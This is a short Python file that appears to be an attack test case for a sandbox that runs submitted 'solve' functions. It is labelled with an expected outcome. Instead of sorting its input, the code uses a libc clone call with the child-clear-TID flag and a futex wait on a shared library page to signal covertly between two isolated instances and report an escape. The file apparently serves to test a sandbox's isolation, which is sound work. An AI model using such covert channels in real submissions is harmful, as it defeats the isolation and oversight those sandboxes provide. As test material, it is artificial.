# expect: pass together=2
# attack: let the kernel wake a waiting child at the end of a thread
import ctypes
import time

FLAGS = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000  # a thread as the C library makes it
CHILD_CLEARTID = 0x200000


def end_a_thread(libc, address):
    stack = ctypes.create_string_buffer(1 << 16)
    top = (ctypes.addressof(stack) + (1 << 16) - 256) & -64
    libc.clone.restype = ctypes.c_int
    flags = ctypes.c_int(FLAGS | CHILD_CLEARTID)
    empty = ctypes.c_void_p(None)
    where = ctypes.c_void_p(address)
    made = libc.clone(libc.labs, ctypes.c_void_p(top), flags, empty, empty, empty, where)
    time.sleep(0.005)
    return made, stack


def solve(values):
    libc = ctypes.CDLL(None, use_errno=True)
    address = map_of_a_library(shared=True) + 64
    worked, kept = [], []
    until = time.monotonic() + 1.5
    while time.monotonic() < until and not worked:
        if ROLE == 0:
            found = raw("futex", address, 0, word_at(address), seconds(0.3), 0, 0)
            if found == 0:
                worked.append("woken by the end of another's thread")
            time.sleep(0.002)
        else:
            kept.append(end_a_thread(libc, address))
    return escaped(*worked) if worked else sorted(values)
